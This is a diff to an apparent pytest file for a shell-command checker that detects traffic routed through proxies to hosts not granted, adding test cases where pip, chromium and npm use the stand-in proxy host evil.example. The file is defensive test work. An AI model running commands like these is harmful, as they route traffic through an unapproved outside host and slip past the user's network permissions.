@@ -74,7 +74,10 @@ def test_traffic_sent_elsewhere_than_a_granted_host_is_asked(tmp_path: Path, sin
      ("https_proxy=evil.example git ls-remote https://127.0.0.1/x", "evil.example"),
      ("ALL_PROXY=socks5h://evil.example:1 curl http://127.0.0.1/", "evil.example"),
      ("http --proxy http:http://evil.example:3128 http://127.0.0.1/", "evil.example"),
-     ("aria2c --all-proxy=evil.example:1 -x 16 http://127.0.0.1/", "evil.example")],
+     ("aria2c --all-proxy=evil.example:1 -x 16 http://127.0.0.1/", "evil.example"),
+     ("pip download --proxy evil.example:1 -i http://127.0.0.1/simple x", "evil.example"),
+     ("chromium --proxy-server=evil.example:1 http://127.0.0.1/", "evil.example"),
+     ("npm --https-proxy=http://evil.example:1 view x", "evil.example")],
 )  # fmt: skip
 def test_the_question_names_where_the_traffic_goes(command: str, host: str) -> None:
     verdict = bash(command)
@@ -84,7 +87,12 @@ def test_the_question_names_where_the_traffic_goes(command: str, host: str) -> N
 
 @pytest.mark.parametrize(
     "command",
-    ["aria2c -x 16 -s 16 http://127.0.0.1/", "http_proxy=x echo hi", "curl -sS http://127.0.0.1/"],
+    [
+        "aria2c -x 16 -s 16 http://127.0.0.1/",
+        "http_proxy=x echo hi",
+        "curl -sS http://127.0.0.1/",
+        "pip install -e .",
+    ],
 )
 def test_no_proxy_named_where_there_is_none(command: str) -> None:
     """aria2c's ``-x`` is its connections per server; an assignment reaches nothing
